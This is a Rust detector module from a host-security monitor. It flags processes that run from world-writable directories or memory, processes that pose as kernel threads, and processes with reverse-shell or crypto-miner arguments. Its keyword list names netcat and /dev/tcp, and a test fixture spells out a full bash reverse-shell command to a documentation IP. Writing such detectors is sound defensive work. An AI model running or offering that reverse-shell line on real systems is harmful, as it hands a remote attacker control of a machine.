//! # Program that hides
//!
//! ## What it finds
//! A program of this host, with sockets, that runs from where no program lives, pretends to be part of the kernel, or
//! whose arguments are those of a shell over the network or of a miner.
//! ## Why it matters
//! Attackers put programs where everybody may write, run them from memory, and give them harmless names.
//! ## How it decides
//! It runs from /tmp, /var/tmp or /dev/shm, or from memory only (memfd); or its name stands in brackets as those of
//! threads of the kernel do, and it has a file; or its arguments hold `/dev/tcp/`, `nc -e` or `stratum+`. Porchlight
//! itself is left out, wherever it was built.
//! ## What fools it
//! Programs of other users are seen only with the right to look (CAP_SYS_PTRACE), and none without sockets. A program
//! replaced by an upgrade is "deleted" too: that alone is silent. AppImages mount below /tmp: `.mount_` is left out.
//! ## What to do
//! Look at the program before you end it: `ls -l /proc/PID/exe`.
//!
//! Holds what its bell holds.

use crate::{
    detectors::{Context, Detector, Evidence, usual::Bell},
    model::{Category, Fact, Finding, Findings, Party, Program, Severity, clean_text},
};

card!("suspicious_process", "Program that hides", None);

const PLACES: [&str; 3] = ["/tmp/", "/var/tmp/", "/dev/shm/"];

/// See the page above.
pub struct SuspiciousProcess {
    bell: Bell,
}

impl SuspiciousProcess {
    #[must_use]
    pub fn new(settings: Settings) -> SuspiciousProcess {
        SuspiciousProcess { bell: Bell::new(settings) }
    }
}

fn sign(program: &Program) -> Option<&'static str> {
    let exe = program.exe.as_deref().unwrap_or_default();
    let arguments = program.arguments.to_ascii_lowercase();
    if exe.starts_with("/memfd:") {
        return Some("runs from memory");
    }
    if PLACES.iter().any(|place| exe.starts_with(place)) && !exe.contains("/.mount_") {
        return Some("runs from where everybody may write");
    }
    if program.name.starts_with('[') && !exe.is_empty() {
        return Some("calls itself a thread of the kernel");
    }
    let shell = arguments.contains("/dev/tcp/")
        || ["nc -e", "ncat -e", "nc.traditional -e"].iter().any(|at| arguments.contains(at));
    if shell {
        return Some("a shell over the network");
    }
    arguments.contains("stratum+").then_some("a miner")
}

impl Detector for SuspiciousProcess {
    says!(self, [Fact], 0);

    fn examine(&mut self, evidence: Evidence<'_>, context: &Context<'_>, findings: &mut Findings) {
        let Evidence::Observation(seen) = evidence else { return };
        let Fact::Programs(programs) = &seen.fact else { return };
        for program in programs.programs.iter().filter(|program| program.pid != programs.looker) {
            let Some(sign) = sign(program) else { continue };
            let key = format!("{} {}", program.pid, program.started);
            let finding = Finding::new(CARD.id, Category::Device, Severity::High, key, context.now)
                .by(Party { device: None, mac: seen.subject.mac, ip: seen.subject.ip })
                .why("sign", sign)
                .why("pid", program.pid)
                .why("program", clean_text(program.exe.as_deref().unwrap_or(&program.name), 96))
                .why("arguments", clean_text(&program.arguments, 128))
                .why("parent", program.parent.as_ref().map_or("", |(_, name)| name.as_str()))
                .technique(&["T1036", "T1059", "T1620"])
                .points(5.5);
            self.bell.ring(finding, findings);
        }
    }
}

#[cfg(test)]
pub(super) mod tests {
    use std::sync::Arc;

    use super::*;
    use crate::{
        detectors::stage::{Stage, ip},
        model::{OwnPrograms, Subject},
    };

    pub fn program(name: &str, exe: &str, arguments: &str, parent: &str) -> Program {
        Program {
            pid: 77,
            started: 5,
            name: name.into(),
            exe: Some(exe.to_owned()).filter(|exe| !exe.is_empty()),
            deleted: false,
            arguments: arguments.into(),
            uid: 0,
            parent: Some((1, parent.to_owned())),
            listeners: Vec::new(),
            connections: Vec::new(),
        }
    }

    #[test]
    fn who_looks_is_not_found() {
        for (looker, expected) in [(77, 0), (78, 1)] {
            let mut stage = Stage::new(SuspiciousProcess::new(Settings::default()));
            let programs = vec![program("porchlight", "/tmp/try/porchlight", "run", "bash")];
            let found = OwnPrograms { programs, looker, ..OwnPrograms::default() };
            assert_eq!(stage.saw(Subject::ip(ip(250).into()), Fact::Programs(Arc::new(found)), 0).len(), expected);
        }
    }

    #[test]
    fn hiding_places_are_told_and_upgrades_are_not() {
        for (name, exe, arguments, expected) in [
            ("x", "/tmp/x", "", true),
            ("x", "/memfd:a (deleted)", "", true),
            ("[kworker/0:1]", "/usr/bin/perl", "", true),
            ("[kworker/0:1]", "", "", false),
            ("bash", "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", true),
            ("xmrig", "/usr/bin/xmrig", "-o stratum+tcp://pool:3333", true),
            ("app", "/tmp/.mount_appXY/usr/bin/app", "", false),
            ("nginx", "/usr/sbin/nginx", "nginx: master process", false),
        ] {
            assert_eq!(sign(&program(name, exe, arguments, "systemd")).is_some(), expected, "{name} {exe} {arguments}");
        }
        let upgraded = Program { deleted: true, ..program("nginx", "/usr/sbin/nginx (deleted)", "", "systemd") };
        assert_eq!(sign(&upgraded), None);
    }
}
